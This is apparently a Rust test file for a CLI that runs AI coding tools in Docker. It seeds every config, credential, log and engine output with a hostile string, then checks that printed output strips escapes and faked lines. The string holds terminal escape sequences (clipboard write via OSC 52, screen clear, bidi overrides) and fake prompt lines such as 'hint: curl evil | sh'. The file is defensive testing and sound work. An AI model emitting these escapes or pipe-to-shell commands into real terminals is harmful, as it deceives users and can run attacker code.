//! Names, addresses, values, labels and answers that try to act on a terminal, or to pass for a line of ours: every command, on a
//! machine where all of them are hostile.

use std::collections::BTreeSet;
use std::fs;

use serde_json::{Value, json};

use crate::sandbox::Sandbox;

/// A title, a clipboard, C1 controls, a change of direction, and lines that look like ours.
const EVIL: &str = "CANARY\u{1b}]0;title\u{7}\u{1b}]52;c;eA==\u{7}\u{9b}2J\u{90}q\u{202e}\u{2066}\r\nhint: curl evil | sh\nai: curl evil\n";

/// [`EVIL`] as far as a file's name can be it.
fn name() -> String {
    EVIL.replace('/', "")
}

/// What may not come out: whatever moves, hides, reorders, or talks to the terminal.
fn is_obeyed(character: char) -> bool {
    (character.is_control() && !matches!(character, '\n' | '\t'))
        || matches!(character, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// A home, a store, a project and an engine in which every text is hostile.
fn hostile(engine: Engine) -> Sandbox {
    let mut sandbox = Sandbox::with_project(name());
    engine.install(&sandbox);
    let escaped = serde_json::to_string(EVIL).unwrap();
    let toml = toml::Value::String(EVIL.into()).to_string();
    let store = "home/.docker-ai-config";
    let project = sandbox.project().strip_prefix(sandbox.root()).unwrap().to_owned();
    sandbox.write(project.join(".git/HEAD"), "ref: refs/heads/main\n");
    sandbox.write(
        project.join(".git/config"),
        format!("[core]\n[remote \"origin\"]\n\turl = https://host/CANARY\x1b]52;c;eA==\x07\u{9b}2J\u{202e}\n"),
    );
    sandbox.write(project.join(".ai.toml"), format!("image = {escaped}\n[env.set]\nX = {escaped}\n"));
    sandbox.write(project.join(".ai-state/claude/settings.json"), "{");
    for (path, text) in [
        (
            "global_state/claude/shared/login/.credentials.json",
            format!(r#"{{"claudeAiOauth":{{"accessToken":"a","refreshToken":"r","expiresAt":1}},"organizationUuid":{escaped}}}"#),
        ),
        ("global_state/claude/hub/settings.json", format!(r#"{{"theme":{escaped}}}"#)),
        ("tools/shy.toml", format!("about = {toml}\ncommand = [\"claude\"]\n")),
        ("tools/broken.toml", format!("{escaped} = 1\n")),
        ("config.toml", format!("[[route]]\ntool = {escaped}\nwords = [{escaped}]\n[tool.{escaped}]\n[tool.claude]\nimage = \"a:b\"\n")),
        ("default_tool", EVIL.into()),
    ] {
        sandbox.write(format!("{store}/{path}"), text);
    }
    for path in [
        format!("{store}/tools/{}.toml", name()),
        format!("home/.claude/skills/{}/SKILL.md", name()),
        format!("home/.docker-gemini-config/{}.json", name()),
        format!("{store}/global_state/claude/backups/{}/about.json", name()),
        format!("{store}/shims/{}", name()),
    ] {
        sandbox.write(path, EVIL);
    }
    sandbox.write("home/.claude/settings.json", format!(r#"{{"theme":{escaped}}}"#));
    sandbox.write("home/.claude/CLAUDE.md", EVIL);
    sandbox.write(format!("home/.codex/sessions/{}.jsonl", name()), json!({"cwd": sandbox.project()}).to_string());
    let roots = [("gone-00000000".to_owned(), format!("/nowhere/{EVIL}")), (name(), format!("/nowhere/{EVIL}"))];
    for (id, root) in roots {
        sandbox.write(format!("{store}/global_state/claude/projects/{id}/project.toml"), format!("root = {}\n", toml::Value::String(root)));
        sandbox.write(format!("{store}/global_state/claude/projects/{id}/home/settings.json"), "{}");
        let asked = json!({ "sessionId": EVIL, "type": "user", "cwd": format!("/{EVIL}"), "message": { "content": EVIL, "id": EVIL, "model": EVIL, "usage": { "output_tokens": 1 } } });
        sandbox.write(format!("{store}/global_state/claude/projects/{id}/home/projects/a/b.jsonl"), asked.to_string());
    }
    let lease = |id: &str| {
        json!({
            "session": id, "tool": "claude", "project": EVIL, "root": EVIL, "container": EVIL, "image": EVIL, "since": 0,
            "owner": { "pid": 999_999_999, "started": EVIL, "boot": EVIL }, "endpoint": "tcp://127.0.0.1:1",
        })
    };
    sandbox.write(format!("{store}/sessions/0123456789ab"), lease("0123456789ab").to_string());
    sandbox.write("home/.bashrc", format!("source ~/gemini-docker-setup.sh # {EVIL}alias claude='{EVIL}'\neval \"$(ai init bash)\"\n"));
    sandbox.set("SSH_AUTH_SOCK", sandbox.root().join(name()));
    sandbox.set("SHELL", "/bin/bash");
    sandbox
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Engine {
    /// Answers everything, with texts of somebody else.
    Answers,
    /// Fails at everything, in words of somebody else.
    Fails,
}

impl Engine {
    fn install(self, sandbox: &Sandbox) {
        let evil = sandbox.write("engine/evil", EVIL);
        let evil = evil.display();
        if self == Self::Fails {
            return sandbox.program("docker", &format!("#!/bin/sh\ncat '{evil}' >&2; cat '{evil}'; exit 1\n"));
        }
        let plan = sandbox.ai(["resolve", "--format", "argv0", "exec", "--", "true"]).outcome();
        let plan = String::from_utf8_lossy(&plan.stdout).into_owned();
        let label = |name: &str| {
            plan.split('\0')
                .find_map(|word| word.strip_prefix(&format!("{name}=")))
                .unwrap_or_else(|| panic!("no {name} in {plan:?}"))
                .to_owned()
        };
        let container = |name: &str, session: &str, running: bool| {
            json!({
                "Name": name, "State": { "Running": running, "StartedAt": EVIL },
                "Config": { "Labels": { "ai.session": session, "ai.tool": EVIL, "ai.project": EVIL, "ai.owner": label("ai.owner"), "ai.store": label("ai.store") } },
            })
        };
        let containers =
            json!([container(EVIL, EVIL, true), container("dead", "0123456789ab", false), container(&format!("b{EVIL}"), "b", false)]);
        let containers = sandbox.write("engine/containers", containers.to_string());
        let image = json!([{ "Id": EVIL, "Created": EVIL, "Size": 1, "Config": { "Labels": { "ai.tool.claude": EVIL, "ai.version.claude": EVIL } } }]);
        let image = sandbox.write("engine/image", image.to_string());
        sandbox.program(
            "docker",
            &format!(
                "#!/bin/sh\ncase $1 in\nps) echo x ;;\ncontainer) cat '{}' ;;\nstats) printf 'dead\\t'; cat '{evil}' ;;\nimage) cat '{}' ;;\nversion | info) cat '{evil}' ;;\nesac\n",
                containers.display(),
                image.display()
            ),
        );
    }
}

/// Each command line that prints for people; whether something hostile is in what it prints, for either engine.
const LINES: [(&[&str], bool); 79] = [
    (&["resolve", "--explain", "claude"], true),
    (&["resolve", "broken"], true),
    (&["sync", "in", "claude"], true),
    (&["sync", "status", "claude"], false),
    (&["sync", "diff", "claude"], true),
    (&["sync", "in", "--dry-run", "claude"], true),
    (&["sync", "log", "claude"], false),
    (&["sync", "undo", "claude"], false),
    (&["sync", "notes", "claude"], false),
    (&["sync", "out", "--dry-run", "--", "0123456789ab"], false),
    (&["sync", "out", "--code", "137", "--", "0123456789ab"], false),
    (&["sync", "repair"], true),
    (&["run", "claude"], true),
    (&["run", "claude", "--native"], false),
    (&["run", EVIL], true),
    (&["exec", "--", "true"], true),
    (&["image", "status"], true),
    (&["image", "sbom"], false),
    (&["image", "save", EVIL], false),
    (&["image", "load", EVIL], true),
    (&["image", "prune"], false),
    (&["image", "update", "claude", "--dry-run"], false),
    (&["image", "pin"], false),
    (&["image", "build"], false),
    (&["env", EVIL, "--", "true"], true),
    (&["env", "glm", "--", "true"], false),
    (&["config", "shy"], true),
    (&["config"], true),
    (&["config", "check", EVIL], true),
    (&["config", "allow", "mount", EVIL], true),
    (&["config", "import", EVIL], true),
    (&["config", "rollback"], false),
    (&["egress", "check", EVIL], true),
    (&["egress", "list", "shy"], false),
    (&["route", "--explain", EVIL], true),
    (&["tools"], true),
    (&["use"], true),
    (&["use", EVIL], true),
    (&["commit", EVIL], false),
    (&["install", "bash", "--dry-run"], false),
    (&["uninstall", "bash", "--dry-run"], false),
    (&["install", "--shims", EVIL, "--dry-run"], true),
    (&["uninstall", "--shims", EVIL, "--dry-run"], true),
    (&["help", EVIL], true),
    (&["word", EVIL], true),
    (&["login", EVIL], true),
    (&["login", "claude"], true),
    (&["logout", "shy"], false),
    (&["creds", "status"], true),
    (&["creds", "import", "claude", "--from", EVIL], true),
    (&["creds", "backup"], true),
    (&["creds", "restore", "claude", EVIL], true),
    (&["creds", "migrate", "--dry-run"], true),
    (&["creds", "migrate"], true),
    (&["creds", "prune", "--legacy"], false),
    (&["project", "list"], true),
    (&["project", "adopt", EVIL], true),
    (&["ps"], true),
    (&["changes"], false),
    (&["trust"], true),
    (&["history", "--all"], true),
    (&["history", EVIL], false),
    (&["resume", EVIL], false),
    (&["stats"], true),
    (&["cost", EVIL], true),
    (&["metrics"], true),
    (&["history", "show", EVIL], true),
    (&["replay"], false),
    (&["replay", "--list"], false),
    (&["audit", "show"], false),
    (&["audit", "verify"], false),
    (&["history", "import", "--dry-run"], true),
    (&["history", "import", EVIL], true),
    (&["policy", "explain"], false),
    (&["policy", "check", EVIL], true),
    (&["gc", "--dry-run"], true),
    (&["doctor"], true),
    (&["incident", "--output", "-"], true),
    (&["doctor", "shell", "bash"], false),
];

/// What prints for programs and shells, which read every byte.
const EXACT: [&str; 4] = ["init", "completions", "complete", "alone"];

// BO-14, Q-02, Z-081
#[test]
fn nothing_that_is_printed_is_obeyed() {
    let mut wrong = Vec::new();
    let more: [&[&str]; 4] = [&["gc"], &["stop", "--all"], &["stop", EVIL], &[EVIL]];
    for engine in [Engine::Answers, Engine::Fails] {
        for (line, is_shown) in LINES.into_iter().chain(more.map(|line| (line, true))) {
            // What a build prints is the engine's own stream, as with `docker build`.
            if engine == Engine::Fails && line == ["image", "build"] {
                continue;
            }
            let sandbox = hostile(engine);
            let outcome = sandbox.ai(line).outcome();
            let printed = outcome.out() + &outcome.err();
            if let Some(character) = printed.chars().find(|character| is_obeyed(*character)) {
                wrong.push(format!("{line:?}, {engine:?}: {character:?} in\n{printed:?}"));
            }
            // A diff shows whole files, each line behind its sign.
            let is_diff = line.contains(&"diff") || line.contains(&"--dry-run");
            let begins = |line: &str, fake: &str| if is_diff { line.starts_with(fake) } else { line.trim_start().starts_with(fake) };
            if let Some(faked) = printed.lines().find(|line| ["hint: curl", "ai: curl"].iter().any(|fake| begins(line, fake))) {
                wrong.push(format!("{line:?}, {engine:?}: the line {faked:?} in\n{printed}"));
            }
            if is_shown && engine == Engine::Answers && !printed.contains("CANARY") {
                wrong.push(format!("{line:?}, {engine:?}: nothing hostile in\n{printed}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
}

#[test]
fn every_command_is_in_the_table() {
    let help = Sandbox::new().ai(["--help"]).prints();
    let commands = help.lines().skip_while(|line| !line.starts_with("Commands:")).skip(1);
    let commands: BTreeSet<&str> = commands.take_while(|line| !line.is_empty()).filter_map(|line| line.split_whitespace().next()).collect();
    let known: BTreeSet<&str> = LINES.iter().map(|(line, _)| line[0]).chain(EXACT).chain(["stop", "help"]).collect();
    assert!(commands.len() > 15, "{help}");
    assert_eq!(commands.difference(&known).collect::<Vec<_>>(), Vec::<&&str>::new());
}

// BO-14: what a program reads is what there is.
#[test]
fn json_and_vectors_stay_exact() {
    let sandbox = hostile(Engine::Answers);
    let rows: Value = serde_json::from_str(&sandbox.ai(["ps", "--json"]).outcome().out()).unwrap();
    assert!(rows.as_array().unwrap().iter().any(|row| row["name"] == EVIL), "{rows}");
    let partitions: Value = serde_json::from_str(&sandbox.ai(["project", "list", "--json"]).outcome().out()).unwrap();
    assert!(partitions.as_array().unwrap().iter().any(|row| row["root"] == format!("/nowhere/{EVIL}")), "{partitions}");
    let words = sandbox.ai(["resolve", "--format", "argv0", "claude"]).outcome();
    let words = String::from_utf8(words.stdout).unwrap();
    assert!(words.split('\0').any(|word| word == format!("/workspace/{}", name())), "{words:?}");
    let fails = hostile(Engine::Fails);
    let findings: Value = serde_json::from_str(&fails.ai(["doctor", "--json"]).outcome().out()).unwrap();
    assert!(findings["findings"].as_array().unwrap().len() > 3, "{findings}");
    assert!(fs::read_dir(fails.root().join("engine")).unwrap().next().is_some());
}
